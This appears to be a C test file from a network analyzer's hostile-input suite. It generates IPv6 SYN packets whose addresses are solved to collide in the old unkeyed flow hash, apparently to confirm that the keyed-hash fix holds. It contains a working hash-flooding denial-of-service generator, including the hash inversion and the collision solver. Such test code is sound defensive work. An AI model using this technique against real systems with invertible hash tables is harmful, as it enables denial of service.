/* SPDX-License-Identifier: ISC */
/*
 * atk_flow_hash.c - issue 9, attack 1: hash flooding of the flow table.
 *
 * Until the flow table was keyed, flow_hash() (analyzer/flow.c) was a
 * public, invertible function of the two endpoints: mix(h, v) = g(h ^ v)
 * with g(x) = y ^ (y >> 29), y = x * 0x9e3779b97f4a7c15, both steps
 * invertible.  Fixing the server and the first half of the client's IPv6
 * address, the last mix inputs can be solved for: the client address's
 * low 64 bits that make the whole 64-bit hash equal one chosen value, for
 * any client port.  Every such connection then shares one bucket at any
 * table size, and its full hash too, so each lookup compares endpoints
 * with every flow before it: 100 k SYNs took 52 s, and shutdown was
 * quadratic as well.  With the keyed hash these tuples are as good as
 * random.
 *
 * Attack: SYNs to [2001:db8::143]:143 from [2001:db8:1:G::X]:P, X solved
 * for the old hash.  Control: the same SYNs with X random.
 */
#include <string.h>

#include "hostile.h"

#define K_MIX	0x9e3779b97f4a7c15ULL
#define H0	0x2545f4914f6cdd1dULL
#define TARGET	0x0123456789abcdefULL	/* the one hash they all get */

static uint64_t
mix(uint64_t h, uint64_t v)
{
	h ^= v;
	h *= K_MIX;
	return h ^ (h >> 29);
}

/* The inverse of x -> mix(0, x). */
static uint64_t
unmix(uint64_t z)
{
	uint64_t inv = K_MIX, y;
	int i;

	for (i = 0; i < 6; i++)		/* Newton: K * inv = 1 mod 2^64 */
		inv *= 2 - K_MIX * inv;
	y = z ^ (z >> 29) ^ (z >> 58);
	return y * inv;
}

static uint64_t
word(const uint8_t *p)
{
	uint64_t w;

	memcpy(&w, p, 8);	/* as the old code read it: host order */
	return w;
}

static uint64_t
endpoint_hash(uint64_t h, const struct pw_end *e)
{
	h = mix(h, word(e->addr));
	h = mix(h, word(e->addr + 8));
	return mix(h, e->port);
}

/* The client's low 64 bits that give TARGET (server lower than client). */
static uint64_t
colliding_low(const struct pw_end *srv, const struct pw_end *c)
{
	uint64_t h3 = mix(endpoint_hash(H0, srv), word(c->addr));
	uint64_t x = unmix(TARGET) ^ c->port;

	return unmix(x) ^ h3;
}

static void
generate(struct pw_file *w, const struct hostile_run *r)
{
	struct pw_end srv, c;
	uint64_t rng = r->seed, i, low;
	struct pw_seg g;

	pw_v6(&srv, "2001:db8::143", 143);
	pw_v6(&c, "2001:db8:1::", 0);
	memset(&g, 0, sizeof(g));
	g.from = &c;
	g.to = &srv;
	g.flags = TH_SYN;
	for (i = 0; i < r->scale; i++) {
		c.port = (uint16_t)(1024 + i % 64512);
		c.addr[6] = (uint8_t)(i / 64512 >> 8);
		c.addr[7] = (uint8_t)(i / 64512);
		low = r->control ? pw_rand(&rng) : colliding_low(&srv, &c);
		memcpy(c.addr + 8, &low, 8);
		g.seq = (uint32_t)pw_rand(&rng);
		pw_tcp(w, &g);
	}
	pw_victim_last(w, NULL, NULL);
}

const struct attack atk_flow_hash = {
	.name = "flow_hash",
	.default_scale = 1000000,
	.imapwatch_args = "",
	.counters = "hash_tables.flows.longest_chain,"
	    "hash_tables.flows.chain_evictions,tcp.flows,tcp.flows_evicted",
	.description = "IPv6 SYNs whose endpoints all fell in one bucket of "
	    "the unkeyed flow hash (scale: SYNs)",
	.generate = generate,
};
